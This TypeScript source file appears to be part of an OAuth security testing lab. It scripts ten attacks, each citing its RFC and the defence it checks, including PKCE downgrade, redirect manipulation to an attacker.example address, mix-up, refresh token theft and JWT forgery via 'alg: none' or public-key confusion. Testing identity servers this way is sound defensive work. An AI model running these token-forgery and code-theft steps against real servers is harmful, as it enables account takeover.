import { OTHER_SERVICE } from '@/lib/contract/lab-paths';
import { WITHOUT_PKCE } from '@/lib/oauth/assessment/requests';
import { readPublishedKeys } from '@/lib/oauth/controls/published-keys';
import { signConfusedTokens } from '@/lib/oauth/controls/resource/forged-tokens';
import { putTogether, takeApart } from '@/lib/oauth/controls/token-parts';
import type { Replay, ReplayResult } from '@/lib/oauth/replays/replay';

const OTHER_SERVER = 'https://attackers-server.example';
const TAKEN_OVER = "The attacker's session now acts as the victim.";
const NO_CODE = { kind: 'not_played', reason: 'The server gave no code.' } as const;

const createSucceeded = (reason: string): ReplayResult => ({ kind: 'succeeded', reason });

const defineReplay = (id: string, title: string, rest: Omit<Replay, 'id' | 'title'>) => ({ id, title, ...rest });

/** Attacks that can be played, in display order. */
export const REPLAYS: readonly Replay[] = [
  defineReplay('code-interception', 'Code interception', {
    story: 'Another application on the device receives the code in place of the client, and redeems it.',
    source: ['RFC 7636 1', 'RFC 9700 4.5'],
    defences: ['require-pkce', 'pkce-verified'],
    async play(stage) {
      const grant =
        (await stage.authorize('client', 'Asks for a code without PKCE', WITHOUT_PKCE)) ??
        (await stage.authorize('client', 'Asks for a code with PKCE'));
      if (grant === null) return NO_CODE;
      stage.recordOutsideStep('victim', 'attacker', 'The code reaches an application of the attacker');
      const redeems = 'Redeems the code without knowing a verifier';
      const tokens = await stage.redeem('attacker', redeems, 'Redeem the stolen code', grant, { code_verifier: null });
      if (tokens === null) return stage.createBlocked('The code is worthless without the verifier.');
      const opened = await stage.present('attacker', "Reads the victim's data", tokens.accessToken);
      return stage.end(opened, "The attacker read the victim's data.", 'The token was refused.');
    },
  }),
  defineReplay('redirect-manipulation', 'Redirect manipulation', {
    story: "The victim opens a link to the real server whose redirect URI is the attacker's.",
    source: ['RFC 9700 4.1'],
    defences: ['strict-redirect-uri', 'redirect-uri-wildcard', 'redirect-uri-scheme'],
    async play(stage) {
      const registered = stage.probe.requireClient().redirectUri;
      const { host, pathname } = new URL(registered);
      const links = {
        'an address of the attacker': 'https://attacker.example/collect',
        'a host that begins like the registered value': `${registered}.attacker.example`,
        'the registered address without TLS': `http://${host}${pathname}`,
      };
      for (const [label, redirect_uri] of Object.entries(links)) {
        stage.recordOutsideStep('attacker', 'victim', `Sends a link with ${label}`);
        const opens = `Opens the link with ${label}`;
        const grant = await stage.authorize('victim', opens, { redirect_uri }, `Redirect to ${label}`);
        if (grant === null) continue;
        stage.recordOutsideStep('victim', 'attacker', "The browser delivers the code to the attacker's address");
        const redeems = 'Redeems the code with a verifier of their own';
        const tokens = await stage.redeem('attacker', redeems, 'Redeem the code', grant, { redirect_uri });
        if (tokens !== null) return createSucceeded(`The code went to ${label}, and was redeemed.`);
      }
      return stage.createBlocked('The browser is sent to the registered address only.');
    },
  }),
  defineReplay('callback-csrf', 'CSRF on the callback', {
    story:
      "The victim's browser is made to finish a flow that the attacker started, and works in the attacker's account.",
    source: ['RFC 9700 4.7', 'RFC 6749 10.12'],
    defences: ['require-state', 'require-pkce'],
    async play(stage) {
      const signsIn = 'Signs in to the client, which sends neither state nor PKCE, and keeps the code';
      const unprotected = { ...WITHOUT_PKCE, state: null, nonce: null };
      const grant = await stage.authorize('attacker', signsIn, unprotected, 'Neither state nor PKCE');
      if (grant === null) return stage.createBlocked('The server refuses a client without protection.');
      stage.recordOutsideStep('attacker', 'victim', 'A hidden image points to the callback with the code');
      stage.recordOutsideStep('victim', 'client', 'Calls the callback; nothing ties it to a session');
      const redeems = 'Redeems the code';
      const tokens = await stage.redeem('client', redeems, 'Redeem the code', grant, { code_verifier: null });
      const success = "The victim's session now belongs to the attacker's account.";
      return stage.end(tokens !== null, success, 'The code was not redeemed.');
    },
  }),
  defineReplay('token-replay', 'Token replay at another service', {
    story: 'A service that was given a token of its own presents it to this one.',
    source: ['RFC 9700 4.9', 'RFC 9068 4'],
    defences: ['validate-audience'],
    async play(stage) {
      const tokens = await stage.prepare('client', 'Gets a token for another service', (probe) =>
        probe.runCodeFlow({ resource: OTHER_SERVICE }),
      );
      stage.recordOutsideStep('client', 'another service', 'Uses the token where it belongs');
      const presents = 'Presents the token that it was given';
      const opened = await stage.present('another service', presents, tokens.accessToken, 'Replay the token');
      return stage.end(opened, 'The service acted as the victim.', 'The token is for another service.');
    },
  }),
  defineReplay('pkce-downgrade-attack', 'PKCE downgrade', {
    story: 'The attacker removes the challenge from the request, so that the resulting code fits any session.',
    source: ['RFC 9700 4.8'],
    defences: ['require-pkce', 'pkce-downgrade'],
    async play(stage) {
      stage.recordOutsideStep('client', 'victim', 'Sends the browser to the server, with a challenge');
      stage.recordOutsideStep('attacker', 'victim', 'Removes the challenge from the request');
      const asks = 'Asks for a code without a challenge';
      const grant = await stage.authorize('victim', asks, WITHOUT_PKCE, 'The stripped request');
      if (grant === null) return stage.createBlocked('The server gives no code without a challenge.');
      stage.recordOutsideStep('attacker', 'client', 'Puts the code into a session of their own');
      const redeems = 'Redeems the code with the verifier of that session';
      const combined = { code: grant.code, verifier: stage.probe.generateRandomText() };
      const tokens = await stage.redeem('client', redeems, 'Redeem with a verifier', combined);
      return stage.end(tokens !== null, TAKEN_OVER, 'A code without a challenge is not redeemed with a verifier.');
    },
  }),
  defineReplay('code-injection', 'Code injection', {
    story: 'The attacker puts a stolen code into their own session with the real client, which redeems it for them.',
    source: ['RFC 9700 4.5'],
    defences: ['pkce-verified'],
    async play(stage) {
      const gets = 'Gets a code, with the challenge of their session';
      const { code } = await stage.prepare('victim', gets, (probe) => probe.requestCode());
      stage.recordOutsideStep('victim', 'attacker', 'The code leaks');
      stage.recordOutsideStep('attacker', 'client', 'Calls the callback of their own session with the stolen code');
      const redeems = "Redeems it with the verifier of the attacker's session";
      const combined = { code, verifier: stage.probe.generateRandomText() };
      const tokens = await stage.redeem('client', redeems, 'Redeem the injected code', combined);
      return stage.end(tokens !== null, TAKEN_OVER, 'The verifier belongs to another session than the code.');
    },
  }),
  defineReplay('mix-up', 'Mix-up', {
    story:
      "A client of two servers takes a response for the attacker's, and sends the honest server's code to the attacker.",
    source: ['RFC 9700 4.4', 'RFC 9207 1'],
    defences: ['issuer-in-response'],
    async play(stage) {
      stage.recordOutsideStep('victim', 'client', `Chooses to sign in with ${OTHER_SERVER}`);
      stage.recordOutsideStep('attacker', 'victim', 'Redirects the browser to the honest server');
      const grant = await stage.authorize('victim', 'Signs in at the honest server');
      if (grant === null) return NO_CODE;
      if (grant.issuer !== undefined && grant.issuer !== OTHER_SERVER) {
        stage.recordDetection('issuer-in-response', 'Sees that the response is from another server than it asked');
        return stage.createBlocked('The response names its issuer, so the client stops.');
      }
      stage.recordOutsideStep('client', 'attacker', "Sends code and verifier to the attacker's token endpoint");
      const redeems = 'Redeems the code with the verifier';
      const tokens = await stage.redeem('attacker', redeems, 'Redeem what the client disclosed', grant);
      return stage.end(tokens !== null, 'The attacker acts as the victim.', 'The code was not redeemed.');
    },
  }),
  defineReplay('algorithm-confusion', 'Algorithm confusion', {
    story: 'The attacker forges tokens: without a signature, or signed with the public key as if it were a secret.',
    source: ['RFC 8725 2.1', 'RFC 8725 3.1'],
    defences: ['alg-none', 'alg-confusion'],
    async play(stage) {
      const gets = 'Gets a token of their own';
      const { accessToken } = await stage.prepare('attacker', gets, (probe) => probe.requireWorkingToken());
      const { header, claims } = takeApart(accessToken);
      const wanted = { ...claims, sub: 'administrator' };
      const [key] = await stage.prepare('attacker', 'Reads the public keys', readPublishedKeys);
      const confused = (await signConfusedTokens(header, wanted, key)).get('PEM') ?? {};
      const tokens = {
        'without a signature': putTogether({ ...header, alg: 'none' }, wanted, ''),
        'signed with the public key': confused['without the last line break'] ?? '',
      };
      for (const [label, token] of Object.entries(tokens)) {
        if (await stage.present('attacker', `Presents a token ${label}`, token))
          return createSucceeded(`A token ${label} was accepted: the attacker can be anyone.`);
      }
      return stage.createBlocked('The server chooses the algorithm, not the token.');
    },
  }),
  defineReplay('refresh-token-theft', 'Refresh token theft', {
    story: 'A stolen refresh token is used after the client has used it.',
    source: ['RFC 9700 4.14'],
    defences: ['refresh-rotation'],
    async play(stage) {
      const tokensOfClient = await stage.prepare('client', 'Gets a refresh token', (probe) =>
        probe.runCodeFlowWithRefresh(),
      );
      stage.recordOutsideStep('client', 'attacker', 'The refresh token is stolen');
      const refresh = (from: 'client' | 'attacker', text: string) =>
        stage.requestTokens(from, text, (probe) => probe.refresh(text, tokensOfClient.refreshToken));
      await refresh('client', 'Refreshes, as it does every few minutes');
      const tokens = await refresh('attacker', 'Uses the stolen token');
      if (tokens === null) return stage.createBlocked('The token was already used, and its family is revoked.');
      const opened = await stage.present('attacker', "Reads the victim's data", tokens.accessToken);
      return stage.end(opened, 'The theft goes unnoticed, for as long as the token lives.', 'The token was refused.');
    },
  }),
  defineReplay('scope-escalation', 'Scope escalation', {
    story: 'A client asks for more than it was registered for, or uses a token for more than was granted.',
    source: ['RFC 6749 3.3', 'RFC 6750 3.1'],
    defences: ['scope-limits', 'scope-enforced'],
    async play(stage) {
      const { scope, resource } = stage.probe.target;
      const asks = 'Asks for the scope admin, which it does not have';
      const grant = await stage.authorize('client', asks, { scope: `${scope} admin` }, 'An unregistered scope');
      if (grant !== null) {
        const tokens = await stage.redeem('client', 'Redeems the code', 'Redeem the code', grant);
        if (tokens?.scope?.split(' ').includes('admin'))
          return createSucceeded('The client has a token for the scope admin.');
      }
      const needed = resource?.scope ?? null;
      const narrower = needed === null ? '' : stage.probe.omitFromScope(needed);
      if (needed === null || narrower === '') return stage.createBlocked('The scope was not granted.');
      const { accessToken } = await stage.prepare('client', `Gets a token without the scope ${needed}`, (probe) =>
        probe.runCodeFlow({ scope: narrower }),
      );
      const opened = await stage.present('client', `Reads what needs the scope ${needed}`, accessToken);
      const success = `The data was read without the scope ${needed}.`;
      return stage.end(opened, success, 'The resource server enforces the scope.');
    },
  }),
];

/** Describes the attacks for a page. */
export function describeReplays(): Omit<Replay, 'play'>[] {
  return REPLAYS.map(({ play: _, ...description }) => description);
}
